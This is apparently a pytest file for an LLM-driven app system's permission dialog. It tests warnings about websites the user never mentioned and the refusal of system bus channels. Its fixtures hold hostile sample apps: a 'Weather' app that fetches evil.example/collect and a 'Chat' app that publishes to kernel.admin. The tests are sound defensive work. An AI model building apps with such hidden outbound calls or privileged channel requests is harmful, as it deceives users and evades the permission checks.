"""What the approval dialog is asked (issue 16, item 8): the system's own channels are refused before
anyone is asked, on every path to a launch, and a website the request never mentioned is said plainly."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from llmos.kernel.flow import AppFlow
from llmos.kernel.flow.mentions import mentions, site_name
from llmos.kernel.registry import Registry

from .test_flow import Answers, FakeGenerator, Launcher, kinds, run

EVIL = """import { ui, net } from '@llm-os/sdk';
export default function App() {
  const load = () => net.fetch('https://evil.example/collect');
  return ui.Window({ title: 'Weather' }, [ui.Button({ onClick: load }, 'Load')]);
}
"""
ADMIN = """import { ui, bus } from '@llm-os/sdk';
export default function App() {
  return ui.Window({ title: 'Chat' }, [ui.Button({ onClick: () => bus.publish('kernel.admin', 1) }, 'Go')]);
}
"""
WARNING = "Talk to evil.example — your request did not mention this site"


@pytest.fixture
def registry(tmp_path: Path):
    with Registry(tmp_path / "state") as opened:
        yield opened


def flow_for(registry: Registry, code: str, scopes: list[str], answers: Answers, **kw) -> AppFlow:
    manifest = {"capabilities": [{"scope": s, "required": True} for s in scopes]}
    return AppFlow(registry, answers, generator=FakeGenerator([code], manifest), launcher=Launcher(),
                   use_cache=False, **kw)


def test_a_site_the_request_never_mentioned_is_said_plainly(registry: Registry) -> None:
    answers = Answers()
    events = run(flow_for(registry, EVIL, ["ui:window", "network:evil.example"], answers), "a weather app")
    assert kinds(events)[-1] == "launched"
    ask = {a.scope: a for a in answers.asked[0]}
    assert ask["network:evil.example"].warning == WARNING
    assert ask["ui:window"].warning == ""
    wire = next(e for e in events if e.kind == "needs-approval").data["asks"]
    assert {"scope": "network:evil.example", "words": "Talk to the website evil.example", "required": True,
            "warning": WARNING} in wire
    assert {"scope": "ui:window", "words": "Show a window on the screen", "required": True} in wire


@pytest.mark.parametrize("request_text", ["weather from evil.example please", "use the Evil service",
                                          "a weather app using evil"])
def test_a_mentioned_site_has_no_warning(registry: Registry, request_text: str) -> None:
    answers = Answers()
    run(flow_for(registry, EVIL, ["ui:window", "network:evil.example"], answers), request_text)
    assert [a.warning for a in answers.asked[0]] == ["", ""]


def test_site_names_and_mentions() -> None:
    assert site_name("api.open-meteo.com") == "open-meteo" and site_name("news.bbc.co.uk") == "bbc"
    assert mentions("forecast from Open Meteo", "api.open-meteo.com")
    assert mentions("forecast from openmeteo", "api.open-meteo.com")
    assert not mentions("a weather forecast", "api.open-meteo.com")
    assert not mentions("the meteo", "api.open-meteo.com")
    assert not mentions("ask 8.8", "8.8.8.8") and mentions("ping 8.8.8.8", "8.8.8.8")


def test_a_system_channel_is_refused_before_anyone_is_asked(registry: Registry) -> None:
    answers = Answers()
    events = run(flow_for(registry, ADMIN, ["ui:window", "bus:kernel.admin"], answers), "a chat app")
    assert events[-1].kind == "failed"
    assert events[-1].data["reason"] == ("bus:kernel.admin can never be granted: 'kernel.admin' is a "
                                         "channel name the system itself uses")
    assert answers.asked == [] and len(registry) == 0


def test_a_saved_app_with_a_system_channel_never_reaches_the_dialog(registry: Registry) -> None:
    record = registry.add("a chat app", ADMIN, "someone", ["ui:window", "bus:caps.revoke"])
    answers, launcher = Answers(), Launcher()
    flow = AppFlow(registry, answers, generator=FakeGenerator([]), launcher=launcher)

    async def collect():
        return [event async for event in flow.launch(record.codeHash)]
    events = asyncio.run(collect())
    assert events[-1].kind == "failed" and "bus:caps.revoke can never be granted" in events[-1].data["reason"]
    assert answers.asked == [] and launcher.launched == []
